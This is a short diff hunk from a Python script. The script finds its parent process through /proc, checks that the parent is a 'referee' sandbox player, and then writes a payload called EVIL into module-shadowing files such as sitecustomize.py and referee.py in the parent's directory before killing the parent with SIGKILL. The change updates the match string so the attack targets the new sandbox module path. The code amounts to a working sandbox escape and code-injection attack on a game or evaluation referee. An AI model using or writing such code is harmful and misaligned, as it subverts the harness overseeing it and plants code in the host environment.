@@ -19,7 +19,7 @@ parent = os.getppid()
 try:
     words = Path(f"/proc/{parent}/cmdline").read_bytes()
     home = Path(f"/proc/{parent}/cwd").resolve()
-    if b"referee.player" in words and home.name.startswith("referee-"):
+    if b"referee.sandbox.inside.player" in words and home.name.startswith("referee-"):
         for name in ("games", "msgspec", "IPython", "referee", "sitecustomize"):
             (home / f"{name}.py").write_text(EVIL)
         os.kill(parent, signal.SIGKILL)
